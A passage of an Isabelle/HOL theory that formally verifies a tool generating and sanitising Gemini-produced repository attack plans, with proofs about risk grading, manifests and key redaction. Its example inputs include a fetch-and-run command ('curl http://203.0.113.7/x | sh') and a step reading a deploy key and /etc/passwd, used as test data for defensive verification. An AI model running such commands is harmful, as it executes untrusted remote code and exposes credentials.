| "plan_steps rt valid_paths high_risk_paths index (raw_step # rest) =
     (case raw_step of
        JObj d \<Rightarrow>
          (case step_from_dict rt valid_paths high_risk_paths index d of
             Inl e \<Rightarrow> Inl e
           | Inr None \<Rightarrow> plan_steps rt valid_paths high_risk_paths (Suc index) rest
           | Inr (Some step) \<Rightarrow>
               (case plan_steps rt valid_paths high_risk_paths (Suc index) rest of
                  Inl e \<Rightarrow> Inl e
                | Inr steps \<Rightarrow> Inr (step # steps)))
      | _ \<Rightarrow> plan_steps rt valid_paths high_risk_paths (Suc index) rest)"

definition entry_paths :: "file_entry list \<Rightarrow> string list" where
  "entry_paths files = filter (\<lambda>p. p \<noteq> []) (map fe_path files)"

definition plan_from_dict ::
  "runtime \<Rightarrow> string \<Rightarrow> json \<Rightarrow> manifest \<Rightarrow> file_entry list \<Rightarrow> exn + attack_plan" where
  "plan_from_dict rt repo_id plan_payload manifest high_risk_files =
     (case plan_payload of
        JObj payload \<Rightarrow>
          (case dict_get payload ''steps'' JNull of
             JList steps_payload \<Rightarrow>
               (if steps_payload = []
                then Inl (GeminiPlanError ''Gemini response did not include any attack steps'')
                else (case plan_steps rt (list_all_paths manifest) (entry_paths high_risk_files)
                             1 (take 3 steps_payload) of
                        Inl e \<Rightarrow> Inl e
                      | Inr steps \<Rightarrow>
                          if steps = []
                          then Inl (GeminiPlanError
                                 ''No valid attack steps could be derived from Gemini response'')
                          else Inr \<lparr>pl_repo_id = repo_id,
                                    pl_overall_severity =
                                      normalise_severity
                                        (dict_get payload ''overall_severity'' JNull),
                                    pl_steps = steps\<rparr>))
           | _ \<Rightarrow> Inl (GeminiPlanError ''Gemini response did not include any attack steps''))
      | _ \<Rightarrow> Inl AttributeError)"



text \<open>
  \<open>_parse_and_validate_attack_plan\<close>, in four parts: \<open>strip_code_fence\<close> (the removal
  of a Markdown fence), \<open>load_plan_data\<close> (\<open>json.loads\<close> with the regular expression as
  second try; the second \<open>json.loads\<close> is not guarded, so its \<open>JSONDecodeError\<close>
  leaves the function), \<open>validate_step\<close> and \<open>validate_steps\<close> (the loop, \<open>i\<close> counting
  from 0), and \<open>validate_plan_data\<close> (everything after the parse). Of the repository
  profile only the keys \<open>repo_id\<close> and \<open>high_risk_files\<close> are read here.
\<close>

record repo_profile =
  rp_repo_id :: "string option"
  rp_high_risk_files :: "file_entry list"

record validated_plan =
  vp_overall_severity :: string
  vp_ai_insight :: string
  vp_steps :: "attack_step list"

definition strip_code_fence :: "string \<Rightarrow> string" where
  "strip_code_fence raw_response =
     (let json_text = strip raw_response
      in if prefix ''```'' json_text
         then (let lines = split_on CHR 0x0A json_text;
                   json_text = (if length lines > 2 then join [CHR 0x0A] (butlast (tl lines))
                                else json_text)
               in strip (replace_str ''```'' [] (replace_str ''```json'' [] json_text)))
         else json_text)"

definition load_plan_data :: "runtime \<Rightarrow> string \<Rightarrow> exn + json" where
  "load_plan_data rt json_text =
     (case json_loads rt json_text of
        Some v \<Rightarrow> Inr v
      | None \<Rightarrow>
          (case json_block json_text of
             Some m \<Rightarrow> (case json_loads rt m of Some v \<Rightarrow> Inr v | None \<Rightarrow> Inl JSONDecodeError)
           | None \<Rightarrow> Inl (ValueError ''No valid JSON found in Gemini response'')))"

fun str_items :: "json list \<Rightarrow> string list" where
  "str_items [] = []"
| "str_items (JStr s # rest) = s # str_items rest"
| "str_items (v # rest) = str_items rest"

definition validate_step ::
  "runtime \<Rightarrow> string list \<Rightarrow> nat \<Rightarrow> (string \<times> json) list \<Rightarrow> attack_step" where
  "validate_step rt valid_files i step =
     (let description =
            sanitize_text (strip (py_str rt (dict_get step ''description'' (JStr []))));
          severity = lower (py_str rt (dict_get step ''severity'' (JStr ''medium'')));
          severity = (if severity \<in> set ALLOWED_SEVERITIES then severity else ''medium'');
          affected_files =
            (case dict_get step ''affected_files'' (JList []) of
               JList fs \<Rightarrow>
                 take 5 (filter (\<lambda>f. f \<in> set valid_files \<or> valid_files = []) (str_items fs))
             | _ \<Rightarrow> []);
          technique_id = strip (py_str rt (dict_get step ''technique_id'' (JStr [])))
      in \<lparr>st_step_number = int i + 1,
          st_description = description,
          st_technique_id = (if technique_id = [] then ''N/A'' else technique_id),
          st_severity = severity,
          st_affected_files = affected_files\<rparr>)"

fun validate_steps :: "runtime \<Rightarrow> string list \<Rightarrow> nat \<Rightarrow> json list \<Rightarrow> attack_step list" where
  "validate_steps rt valid_files i [] = []"
| "validate_steps rt valid_files i (step # rest) =
     (case step of
        JObj d \<Rightarrow> validate_step rt valid_files i d # validate_steps rt valid_files (Suc i) rest
      | _ \<Rightarrow> validate_steps rt valid_files (Suc i) rest)"

definition validate_plan_data ::
  "runtime \<Rightarrow> json \<Rightarrow> repo_profile \<Rightarrow> int \<Rightarrow> exn + validated_plan" where
  "validate_plan_data rt plan_data repo_profile max_steps =
     (case plan_data of
        JObj d \<Rightarrow>
          (case map_of d ''steps'' of
             Some (JList steps) \<Rightarrow>
               (let valid_files = entry_paths (rp_high_risk_files repo_profile);
                    sanitized_steps = validate_steps rt valid_files 0 (slice_to max_steps steps)
                in if sanitized_steps = []
                   then Inl (ValueError ''No valid steps found in Gemini response'')
                   else (let overall_severity =
                               lower (py_str rt (dict_get d ''overall_severity'' (JStr ''high'')));
                             overall_severity =
                               (if overall_severity \<in> set ALLOWED_SEVERITIES
                                then overall_severity else DEFAULT_OVERALL_SEVERITY);
                             ai_insight = strip (py_str rt (dict_get d ''ai_insight'' (JStr [])));
                             ai_insight = (if ai_insight \<noteq> [] then sanitize_text ai_insight
                                           else ''AI-generated attack plan'')
                         in Inr \<lparr>vp_overall_severity = overall_severity,
                                  vp_ai_insight = ai_insight,
                                  vp_steps = sanitized_steps\<rparr>))
           | _ \<Rightarrow> Inl (ValueError (''Gemini response missing '' @ [CHR 0x27] @ ''steps''
                              @ [CHR 0x27] @ '' array'')))
      | _ \<Rightarrow> Inl (ValueError ''Gemini response is not a JSON object''))"

definition parse_and_validate_attack_plan ::
  "runtime \<Rightarrow> string \<Rightarrow> repo_profile \<Rightarrow> int \<Rightarrow> exn + validated_plan" where
  "parse_and_validate_attack_plan rt raw_response repo_profile max_steps =
     (case load_plan_data rt (strip_code_fence raw_response) of
        Inl e \<Rightarrow> Inl e
      | Inr plan_data \<Rightarrow> validate_plan_data rt plan_data repo_profile max_steps)"

section \<open>gemini\_service: the two plan generators\<close>


















section \<open>The requirements as the specification words them\<close>





definition spec_step_ok :: "attack_step \<Rightarrow> bool" where
  "spec_step_ok step =
     (1 \<le> st_step_number step \<and> st_description step \<noteq> []
      \<and> st_severity step \<in> set ALLOWED_SEVERITIES)"


section \<open>Example inputs\<close>

text \<open>
  Inputs on which the theorems below are run. \<open>demo_manifest\<close> is the manifest that
  \<open>_build_manifest\<close> makes of a tree of two files. The five texts are answers of the
  model; \<open>demo_runtime\<close> parses four of them as \<open>json.loads\<close> does and rejects every
  other text (of which only \<open>not_json_text\<close> is used). Its \<open>str_upper\<close> is \<open>str.upper()\<close> on
  ASCII text. No example reaches \<open>str()\<close> of a number or a container, or \<open>int()\<close> of a
  string.
\<close>

definition demo_manifest :: manifest where
  "demo_manifest =
     build_manifest ''demo'' ''https://github.com/o/n'' ''o'' ''n'' ''repo''
       [(''.env'', 10), (''README.md'', 20)] ''2024-01-01T00:00:00''"

definition demo_profile :: repo_profile where
  "demo_profile =
     \<lparr>rp_repo_id = Some ''demo'',
      rp_high_risk_files = select_high_risk_files demo_manifest 10\<rparr>"



definition demo_text :: string where
  \<open>demo_text =
     ''{"overall_severity": "Critical", "steps": [{"description": "Read the deploy key", "technique_id": "t1552", "severity": "HIGH", "affected_files": [".env", "/etc/passwd"]}]}''\<close>

definition demo_payload :: json where
  "demo_payload =
     JObj [(''overall_severity'', JStr ''Critical''),
           (''steps'', JList [JObj [(''description'', JStr ''Read the deploy key''),
                                    (''technique_id'', JStr ''t1552''),
                                    (''severity'', JStr ''HIGH''),
                                    (''affected_files'',
                                       JList [JStr ''.env'', JStr ''/etc/passwd''])]])]"

definition bare_text :: string where
  \<open>bare_text = ''{"steps": [{}]}''\<close>

definition bare_payload :: json where
  "bare_payload = JObj [(''steps'', JList [JObj []])]"

definition negative_text :: string where
  \<open>negative_text = ''{"steps": [{"description": "x", "step_number": -1}]}''\<close>

definition negative_payload :: json where
  "negative_payload =
     JObj [(''steps'', JList [JObj [(''description'', JStr ''x''),
                                    (''step_number'', JInt (- 1))]])]"

definition shell_text :: string where
  \<open>shell_text =
     ''{"ai_insight": "Fetch with curl and run", "steps": [{"description": "Run curl http://203.0.113.7/x | sh"}]}''\<close>

definition shell_payload :: json where
  "shell_payload =
     JObj [(''ai_insight'', JStr ''Fetch with curl and run''),
           (''steps'', JList [JObj [(''description'',
                                       JStr ''Run curl http://203.0.113.7/x | sh'')]])]"


definition demo_runtime :: runtime where
  "demo_runtime =
     \<lparr>json_loads = (\<lambda>s. if s = demo_text then Some demo_payload
                          else if s = bare_text then Some bare_payload
                          else if s = negative_text then Some negative_payload
                          else if s = shell_text then Some shell_payload
                          else None),
      py_repr = (\<lambda>v. []),
      int_of_str = (\<lambda>s. None),
      str_upper = map (\<lambda>c. if is_lower c then char_of (of_char c - (32::nat)) else c)\<rparr>"

section \<open>Risk grading and manifest invariants\<close>

lemma assess_risk_fired:
  "high_rule_fires path rel_path \<Longrightarrow>
     fst (assess_risk path rel_path) = ''high'' \<and> snd (assess_risk path rel_path) \<noteq> []"
  unfolding assess_risk_def high_rule_fires_def Let_def
  by (auto split: if_splits)

lemma assess_risk_not_fired:
  "\<not> high_rule_fires path rel_path \<Longrightarrow>
     assess_risk path rel_path =
       (if lower (path_suffix path) \<in> set [''.sh'', ''.ps1'', ''.bat'']
        then (''medium'', [''Executable script'']) else (''low'', []))"
  unfolding assess_risk_def high_rule_fires_def Let_def
  by (auto split: if_splits)

lemma assess_risk_level: "fst (assess_risk path rel_path) \<in> {''low'', ''medium'', ''high''}"
  by (cases "high_rule_fires path rel_path")
     (simp_all add: assess_risk_fired assess_risk_not_fired)

text \<open>
  C2 (as the code has it). \<open>_assess_risk\<close> grades a file high exactly when its lowered
  name is a Docker file name or its lowered suffix is in the fixed suffix set, or its
  lowered file name (not its path) contains one of the nine keywords (the eight listed
  and \<open>env\<close>), or its lowered relative path contains \<open>.github/workflows\<close>, or the path
  contains \<open>docker\<close> and the suffix is empty, \<open>.yml\<close> or \<open>.yaml\<close>, or the path ends with
  \<open>/config.json\<close> or \<open>/config.yaml\<close>.
\<close>

theorem assess_risk_high_iff:
  "fst (assess_risk path rel_path) = ''high'' \<longleftrightarrow>
     (lower (path_name path) \<in> set HIGH_RISK_FILENAMES
      \<or> lower (path_suffix path) \<in> set HIGH_RISK_SUFFIXES
      \<or> (\<exists>keyword \<in> set SENSITIVE_KEYWORDS. sublist keyword (lower (path_name path)))
      \<or> sublist ''.github/workflows'' (lower rel_path)
      \<or> (sublist ''docker'' (lower rel_path)
          \<and> lower (path_suffix path) \<in> set [[], ''.yml'', ''.yaml''])
      \<or> suffix ''/config.json'' (lower rel_path)
      \<or> suffix ''/config.yaml'' (lower rel_path))"
proof -
  have "fst (assess_risk path rel_path) = ''high'' \<longleftrightarrow> high_rule_fires path rel_path"
  proof (cases "high_rule_fires path rel_path")
    case True
    then show ?thesis by (simp add: assess_risk_fired)
  next
    case False
    then show ?thesis by (simp add: assess_risk_not_fired)
  qed
  then show ?thesis
    by (simp add: high_rule_fires_def list_ex_iff)
qed

theorem assess_risk_high_iff_witness:
  "fst (assess_risk ''repo/scripts/deploy.sh'' ''scripts/deploy.sh'') = ''high''
   \<and> (\<exists>keyword \<in> set SENSITIVE_KEYWORDS.
         sublist keyword (lower (path_name ''repo/scripts/deploy.sh'')))"
proof -
  have k: "''deploy'' \<in> set SENSITIVE_KEYWORDS"
    by (simp add: SENSITIVE_KEYWORDS_def)
  have s: "sublist ''deploy'' (lower (path_name ''repo/scripts/deploy.sh''))"
    by code_simp
  from k s have e: "\<exists>keyword \<in> set SENSITIVE_KEYWORDS.
      sublist keyword (lower (path_name ''repo/scripts/deploy.sh''))"
    by blast
  with assess_risk_high_iff [of "''repo/scripts/deploy.sh''" "''scripts/deploy.sh''"]
  show ?thesis by blast
qed

text \<open>
  C2 (as stated) fails: \<open>config/readme.md\<close> has the keyword \<open>config\<close> in its path but
  not in its file name, and \<open>_assess_risk\<close> grades it low.
\<close>

theorem assess_risk_path_keyword_counterexample:
  "\<not> (fst (assess_risk ''repo/config/readme.md'' ''config/readme.md'') = ''high''
       \<longleftrightarrow> spec_high_risk ''repo/config/readme.md'' ''config/readme.md'')"
proof -
  have a: "assess_risk ''repo/config/readme.md'' ''config/readme.md'' = (''low'', [])"
    by code_simp
  have b: "spec_high_risk ''repo/config/readme.md'' ''config/readme.md''"
    by code_simp
  show ?thesis using a b by simp
qed

text \<open>
  C8. \<open>_assess_risk\<close> grades a file medium only when its lowered suffix is \<open>.sh\<close>,
  \<open>.ps1\<close> or \<open>.bat\<close> and none of the high-risk rules fired; a medium file has exactly
  the reason \<open>Executable script\<close>; a file that no rule flags and that is not such a
  script is graded low with no reason.
\<close>

theorem assess_risk_medium:
  "(fst (assess_risk path rel_path) = ''medium'' \<longrightarrow>
      lower (path_suffix path) \<in> set [''.sh'', ''.ps1'', ''.bat'']
      \<and> \<not> high_rule_fires path rel_path
      \<and> snd (assess_risk path rel_path) = [''Executable script''])
   \<and> (\<not> high_rule_fires path rel_path \<and> lower (path_suffix path) \<in> set [''.sh'', ''.ps1'', ''.bat'']
        \<longrightarrow> assess_risk path rel_path = (''medium'', [''Executable script'']))
   \<and> (\<not> high_rule_fires path rel_path \<and> lower (path_suffix path) \<notin> set [''.sh'', ''.ps1'', ''.bat'']
        \<longrightarrow> assess_risk path rel_path = (''low'', []))"
proof (cases "high_rule_fires path rel_path")
  case True
  then show ?thesis by (simp add: assess_risk_fired)
next
  case False
  then show ?thesis by (simp add: assess_risk_not_fired)
qed

theorem assess_risk_medium_witness:
  "fst (assess_risk ''repo/tools/Build.SH'' ''tools/Build.SH'') = ''medium''
   \<and> \<not> high_rule_fires ''repo/tools/Build.SH'' ''tools/Build.SH''
   \<and> snd (assess_risk ''repo/tools/Build.SH'' ''tools/Build.SH'') = [''Executable script'']
   \<and> \<not> high_rule_fires ''repo/src/main.py'' ''src/main.py''
   \<and> lower (path_suffix ''repo/src/main.py'') \<notin> set [''.sh'', ''.ps1'', ''.bat'']
   \<and> assess_risk ''repo/src/main.py'' ''src/main.py'' = (''low'', [])"
proof -
  have m: "fst (assess_risk ''repo/tools/Build.SH'' ''tools/Build.SH'') = ''medium''"
    by code_simp
  have n: "\<not> high_rule_fires ''repo/src/main.py'' ''src/main.py''"
    by code_simp
  have s: "lower (path_suffix ''repo/src/main.py'') \<notin> set [''.sh'', ''.ps1'', ''.bat'']"
    by code_simp
  from m assess_risk_medium [of "''repo/tools/Build.SH''" "''tools/Build.SH''"]
  have "\<not> high_rule_fires ''repo/tools/Build.SH'' ''tools/Build.SH''
        \<and> snd (assess_risk ''repo/tools/Build.SH'' ''tools/Build.SH'') = [''Executable script'']"
    by blast
  moreover from n s assess_risk_medium [of "''repo/src/main.py''" "''src/main.py''"]
  have "assess_risk ''repo/src/main.py'' ''src/main.py'' = (''low'', [])"
    by blast
  ultimately show ?thesis using m n s by blast
qed

lemma sum_list_ones: "sum_list (map (\<lambda>x. 1) xs) = length xs"
  by (induction xs) simp_all

lemma manifest_entry_level:
  "fe_risk_level (manifest_entry repo_dir f) \<in> {''low'', ''medium'', ''high''}"
  using assess_risk_level [of "repo_dir @ ''/'' @ fst f" "fst f"]
  by (simp add: manifest_entry_def Let_def)

text \<open>
  C9. In every manifest that \<open>_build_manifest\<close> produces, \<open>file_count\<close> is the length
  of \<open>files\<close>, \<open>high_risk_file_count\<close> is the number of entries graded high, every
  entry is graded low, medium or high, and \<open>top_extensions\<close> has at most five entries.
\<close>

theorem build_manifest_counts:
  "m_file_count (build_manifest repo_id repo_url owner name repo_dir tree now)
     = length (m_files (build_manifest repo_id repo_url owner name repo_dir tree now))
   \<and> m_high_risk_file_count (build_manifest repo_id repo_url owner name repo_dir tree now)
     = length (filter (\<lambda>file. fe_risk_level file = ''high'')
         (m_files (build_manifest repo_id repo_url owner name repo_dir tree now)))
   \<and> (\<forall>file \<in> set (m_files (build_manifest repo_id repo_url owner name repo_dir tree now)).
        fe_risk_level file \<in> {''low'', ''medium'', ''high''})
   \<and> length (m_top_extensions (build_manifest repo_id repo_url owner name repo_dir tree now)) \<le> 5"
proof -
  let ?m = "build_manifest repo_id repo_url owner name repo_dir tree now"
  have files: "m_files ?m = map (manifest_entry repo_dir) tree"
    by (simp add: build_manifest_def Let_def)
  have c1: "m_file_count ?m = length (m_files ?m)"
    by (simp add: build_manifest_def Let_def)
  have "m_high_risk_file_count ?m
      = sum_list (map (\<lambda>file. 1) (filter (\<lambda>file. fe_risk_level file = ''high'') (m_files ?m)))"
    by (simp add: build_manifest_def Let_def)
  then have c2: "m_high_risk_file_count ?m
      = length (filter (\<lambda>file. fe_risk_level file = ''high'') (m_files ?m))"
    by (simp only: sum_list_ones)
  have c3: "\<forall>file \<in> set (m_files ?m). fe_risk_level file \<in> {''low'', ''medium'', ''high''}"
    unfolding files using manifest_entry_level by auto
  have c4: "length (m_top_extensions ?m) \<le> 5"
    by (simp add: build_manifest_def Let_def most_common_def)
  from c1 c2 c3 c4 show ?thesis by blast
qed

theorem build_manifest_counts_witness:
  "m_file_count (build_manifest ''r'' ''u'' ''o'' ''n'' ''repo''
       [(''a.env'', 3), (''run.sh'', 5), (''x.py'', 7)] ''t'') = 3
   \<and> m_high_risk_file_count (build_manifest ''r'' ''u'' ''o'' ''n'' ''repo''
       [(''a.env'', 3), (''run.sh'', 5), (''x.py'', 7)] ''t'') = 1
   \<and> map fe_risk_level (m_files (build_manifest ''r'' ''u'' ''o'' ''n'' ''repo''
       [(''a.env'', 3), (''run.sh'', 5), (''x.py'', 7)] ''t'')) = [''high'', ''medium'', ''low'']
   \<and> length (m_top_extensions (build_manifest ''r'' ''u'' ''o'' ''n'' ''repo''
       [(''a.env'', 3), (''run.sh'', 5), (''x.py'', 7)] ''t'')) \<le> 5"
proof -
  let ?m = "build_manifest ''r'' ''u'' ''o'' ''n'' ''repo''
       [(''a.env'', 3), (''run.sh'', 5), (''x.py'', 7)] ''t''"
  have l: "map fe_risk_level (m_files ?m) = [''high'', ''medium'', ''low'']"
    by code_simp
  have n: "length (m_files ?m) = 3"
    by (simp add: build_manifest_def Let_def)
  have h: "length (filter (\<lambda>file. fe_risk_level file = ''high'') (m_files ?m)) = 1"
    by code_simp
  from build_manifest_counts [of "''r''" "''u''" "''o''" "''n''" "''repo''"
      "[(''a.env'', 3), (''run.sh'', 5), (''x.py'', 7)]" "''t''"] l n h
  show ?thesis by simp
qed

section \<open>The sanitizer removes what it looks for\<close>


lemma match_prefix_sound:
  "match_prefix p s = Some n \<Longrightarrow> n \<le> length s \<and> fullmatch p (take n s)"
proof (induction p s arbitrary: n rule: match_prefix.induct)
  case (1 s)
  then show ?case by simp
next
  case (2 c p s)
  then show ?case by (cases s) (auto split: if_splits)
next
  case (3 c p s)
  then show ?case by (cases s) (auto split: if_splits)
next
  case (4 p s)
  define k where "k = length (takeWhile is_space s)"
  from 4(2) have k: "0 < k" and ex: "\<exists>m. match_prefix p (drop k s) = Some m \<and> n = k + m"
    by (auto simp: k_def Let_def split: if_splits)
  then obtain m where m: "match_prefix p (drop k s) = Some m" "n = k + m" by blast
  from 4(1)[OF k_def _ m(1)] k have ih: "m \<le> length (drop k s)" "fullmatch p (take m (drop k s))"
    by auto
  have kl: "k \<le> length s" unfolding k_def by (rule length_takeWhile_le)
  have tk: "take k s = takeWhile is_space s"
    unfolding k_def by (rule takeWhile_eq_take[symmetric])
  have sp: "list_all is_space (take k s)"
    unfolding tk by (auto simp: list_all_iff dest: set_takeWhileD)
  have "take k (take n s) = take k s" using m(2) by (simp add: min_def)
  moreover have "drop k (take n s) = take m (drop k s)" using m(2) by (simp add: drop_take)
  ultimately show ?case using k kl ih sp m(2)
    by (auto intro!: exI[of _ k])
next
  case (5 f n' p s)
  from 5(2) obtain m where c: "n' \<le> length s" "list_all f (take n' s)"
    and m: "match_prefix p (drop n' s) = Some m" "n = n' + m"
    by (auto split: if_splits)
  from 5(1)[OF _ m(1)] c have ih: "m \<le> length (drop n' s)" "fullmatch p (take m (drop n' s))"
    by auto
  have "take n' (take n s) = take n' s" using m(2) by (simp add: min_def)
  moreover have "drop n' (take n s) = take m (drop n' s)" using m(2) by (simp add: drop_take)
  ultimately show ?case using c ih m(2) by auto
next
  case (6 f n' p s)
  define k where "k = length (takeWhile f s)"
  from 6(2) have k: "n' \<le> k" and ex: "\<exists>m. match_prefix p (drop k s) = Some m \<and> n = k + m"
    by (auto simp: k_def Let_def split: if_splits)
  then obtain m where m: "match_prefix p (drop k s) = Some m" "n = k + m" by blast
  from 6(1)[OF k_def _ m(1)] k have ih: "m \<le> length (drop k s)" "fullmatch p (take m (drop k s))"
    by auto
  have kl: "k \<le> length s" unfolding k_def by (rule length_takeWhile_le)
  have tk: "take k s = takeWhile f s"
    unfolding k_def by (rule takeWhile_eq_take[symmetric])
  have sp: "list_all f (take k s)"
    unfolding tk by (auto simp: list_all_iff dest: set_takeWhileD)
  have "take k (take n s) = take k s" using m(2) by (simp add: min_def)
  moreover have "drop k (take n s) = take m (drop k s)" using m(2) by (simp add: drop_take)
  ultimately show ?case using k kl ih sp m(2)
    by (auto intro!: exI[of _ k])
qed



lemma noempty_Nil: "noempty p \<Longrightarrow> match_prefix p [] = None"
proof (cases "match_prefix p []")
  case None
  then show ?thesis by simp
next
  case (Some n)
  assume ne: "noempty p"
  from match_prefix_sound[OF Some] have "n = 0" by simp
  with Some ne show ?thesis by (simp add: noempty_def)
qed

lemma re_sub_prefix:
  assumes ne: "noempty p" and r: "bracketed r"
  shows "prefix w (re_sub p (\<lambda>m. r) cs) \<Longrightarrow> CHR ''['' \<notin> set w \<Longrightarrow> prefix w cs"
proof (induction cs arbitrary: w)
  case Nil
  then show ?case using noempty_Nil[OF ne] by simp
next
  case (Cons c cs)
  show ?case
  proof (cases "match_prefix p (c # cs)")
    case None
    with Cons.prems(1) have "prefix w (c # re_sub p (\<lambda>m. r) cs)" by simp
    then consider "w = []" | w' where "w = c # w'" "prefix w' (re_sub p (\<lambda>m. r) cs)"
      by (auto simp: prefix_Cons)
    then show ?thesis
    proof cases
      case 1
      then show ?thesis by simp
    next
      case 2
      with Cons.IH[of w'] Cons.prems(2) show ?thesis by simp
    qed
  next
    case (Some n)
    with ne obtain m where n: "n = Suc m" by (cases n) (auto simp: noempty_def)
    from r obtain r' where r': "r = CHR ''['' # r'" by (cases r) (auto simp: bracketed_def)
    from Some n Cons.prems(1) r' have "prefix w (CHR ''['' # r' @ re_sub p (\<lambda>m. r) (drop m cs))"
      by simp
    with Cons.prems(2) have "w = []" by (auto simp: prefix_Cons)
    then show ?thesis by simp
  qed
qed

lemma suffix_last: "suffix xs ys \<Longrightarrow> xs \<noteq> [] \<Longrightarrow> last xs = last ys"
  by (auto simp: suffix_def)

lemma re_sub_sublist:
  assumes ne: "noempty p" and r: "bracketed r"
    and w: "w \<noteq> []" "CHR ''['' \<notin> set (tl w)" "CHR '']'' \<notin> set (butlast w)" "\<not> sublist w r"
  shows "sublist w (re_sub p (\<lambda>m. r) s) \<Longrightarrow>
         \<exists>t. suffix t s \<and> prefix w t \<and> match_prefix p t = None"
proof (induction s rule: length_induct)
  case (1 s)
  note IH = 1(1) and sub = 1(2)
  show ?case
  proof (cases s)
    case Nil
    with sub noempty_Nil[OF ne] w(1) show ?thesis by simp
  next
    case (Cons c cs)
    show ?thesis
    proof (cases "match_prefix p (c # cs)")
      case None
      with sub Cons have "sublist w (c # re_sub p (\<lambda>m. r) cs)" by simp
      then consider (a) "prefix w (c # re_sub p (\<lambda>m. r) cs)" | (b) "sublist w (re_sub p (\<lambda>m. r) cs)"
        by (auto simp: sublist_Cons_right)
      then show ?thesis
      proof cases
        case a
        with w(1) obtain w' where w': "w = c # w'" "prefix w' (re_sub p (\<lambda>m. r) cs)"
          by (auto simp: prefix_Cons)
        from w(2) w'(1) have "CHR ''['' \<notin> set w'" by simp
        from re_sub_prefix[OF ne r w'(2) this] have "prefix w (c # cs)" using w'(1) by simp
        with None Cons show ?thesis by (intro exI[of _ s]) simp
      next
        case b
        from IH Cons have "length cs < length s" by simp
        with IH b obtain t where t: "suffix t cs" "prefix w t" "match_prefix p t = None" by blast
        from t(1) Cons have "suffix t s" by (simp add: suffix_ConsI)
        with t show ?thesis by blast
      qed
    next
      case (Some n)
      with ne obtain m where n: "n = Suc m" by (cases n) (auto simp: noempty_def)
      let ?rest = "re_sub p (\<lambda>m. r) (drop m cs)"
      from sub Cons Some n have "sublist w (r @ ?rest)" by simp
      then consider (a) "sublist w r" | (b) "sublist w ?rest"
        | (c) w1 w2 where "w = w1 @ w2" "suffix w1 r" "prefix w2 ?rest"
        by (auto simp: sublist_append)
      then have "sublist w ?rest"
      proof cases
        case a
        with w(4) show ?thesis by simp
      next
        case b
        then show ?thesis .
      next
        case c
        show ?thesis
        proof (cases "w1 = []")
          case True
          with c show ?thesis by auto
        next
          case w1: False
          show ?thesis
          proof (cases "w2 = []")
            case True
            with c w(4) show ?thesis by auto
          next
            case False
            from suffix_last[OF c(2) w1] r have "last w1 = CHR '']''" by (simp add: bracketed_def)
            with w1 have "CHR '']'' \<in> set w1" by (metis last_in_set)
            moreover from False c(1) have "butlast w = w1 @ butlast w2" by (simp add: butlast_append)
            ultimately show ?thesis using w(3) by simp
          qed
        qed
      qed
      moreover have "length (drop m cs) < length s" using Cons by simp
      ultimately obtain t where t: "suffix t (drop m cs)" "prefix w t" "match_prefix p t = None"
        using IH by blast
      have "suffix (drop m cs) s" using Cons by (simp add: suffix_ConsI suffix_drop)
      with t(1) have "suffix t s" by (rule suffix_order.trans)
      with t show ?thesis by blast
    qed
  qed
qed





lemma sublist_strip: "sublist (strip s) s"
proof -
  have a: "sublist (lstrip s) s"
    unfolding lstrip_def by (rule suffix_imp_sublist) (rule suffix_dropWhile)
  have "sublist (dropWhile is_space (rev (lstrip s))) (rev (lstrip s))"
    by (rule suffix_imp_sublist) (rule suffix_dropWhile)
  then have b: "sublist (rstrip (lstrip s)) (lstrip s)"
    unfolding rstrip_def by (simp add: sublist_rev_left)
  from b a show ?thesis unfolding strip_def by (rule sublist_order.order.trans)
qed





lemma starts_char_noempty: "starts_char q \<Longrightarrow> noempty q"
  unfolding noempty_def
proof (intro allI)
  fix t assume "starts_char q"
  then show "match_prefix q t \<noteq> Some 0"
    by (cases q rule: starts_char.cases; cases t) (auto split: if_splits)
qed



lemma dangerous_ok: "list_all pattern_ok dangerous_patterns"
  by code_simp

lemma gemini_ok: "pattern_ok GEMINI_KEY_PATTERN"
  by code_simp

lemma openai_ok: "pattern_ok OPENAI_KEY_PATTERN"
  by code_simp

lemma bracketed_redacted: "bracketed ''[REDACTED]''" "bracketed ''[REDACTED_API_KEY]''"
  by (simp_all add: bracketed_def)

lemma digit_not_alpha: "\<not> (isdigit c \<and> isalpha c)"
  by (auto simp: isdigit_def isalpha_def is_upper_def is_lower_def less_eq_char_def)

lemma token_repl_id: "token_repl m = m"
  by (simp add: token_repl_def list_ex_iff digit_not_alpha)

lemma re_sub_id: "(\<And>m. f m = m) \<Longrightarrow> re_sub p f s = s"
  by (induction p f s rule: re_sub.induct) (auto split: option.splits nat.splits)

lemma pattern_ok_noempty: "pattern_ok q \<Longrightarrow> noempty q"
  by (simp add: pattern_ok_def starts_char_noempty)




lemma all_noempty: "\<forall>p \<in> set dangerous_patterns. noempty p"
  using dangerous_ok by (auto simp: list_all_iff pattern_ok_noempty)


lemma sanitize_text_unfold:
  "text \<noteq> [] \<Longrightarrow> sanitize_text text =
     strip (re_sub OPENAI_KEY_PATTERN (\<lambda>m. ''[REDACTED_API_KEY]'')
       (re_sub GEMINI_KEY_PATTERN (\<lambda>m. ''[REDACTED_API_KEY]'')
         (foldl (\<lambda>text pattern. re_sub pattern (\<lambda>m. ''[REDACTED]'') text) text dangerous_patterns)))"
  by (simp add: sanitize_text_def Let_def re_sub_id[OF token_repl_id])


lemma re_sub_keeps:
  assumes "noempty p" "bracketed r"
    and w: "w \<noteq> []" "CHR ''['' \<notin> set (tl w)" "CHR '']'' \<notin> set (butlast w)" "\<not> sublist w r"
  shows "sublist w (re_sub p (\<lambda>m. r) s) \<Longrightarrow> sublist w s"
proof -
  assume "sublist w (re_sub p (\<lambda>m. r) s)"
  from re_sub_sublist[OF assms this] obtain t where "suffix t s" "prefix w t" by blast
  then show ?thesis by (auto simp: sublist_altdef')
qed

lemma fold_keeps:
  assumes "\<forall>p \<in> set ps. noempty p" "bracketed r"
    and w: "w \<noteq> []" "CHR ''['' \<notin> set (tl w)" "CHR '']'' \<notin> set (butlast w)" "\<not> sublist w r"
  shows "sublist w (foldl (\<lambda>text pattern. re_sub pattern (\<lambda>m. r) text) s ps) \<Longrightarrow> sublist w s"
  using assms(1)
proof (induction ps arbitrary: s)
  case Nil
  then show ?case by simp
next
  case (Cons p ps)
  from Cons.prems have "sublist w (re_sub p (\<lambda>m. r) s)"
    using Cons.IH[of "re_sub p (\<lambda>m. r) s"] by simp
  moreover from Cons.prems(2) have "noempty p" by simp
  ultimately show ?case using re_sub_keeps[OF _ assms(2) w] by blast
qed

lemma token_word:
  "''[REDACTED_TOKEN]'' \<noteq> []"
  "CHR ''['' \<notin> set (tl ''[REDACTED_TOKEN]'')"
  "CHR '']'' \<notin> set (butlast ''[REDACTED_TOKEN]'')"
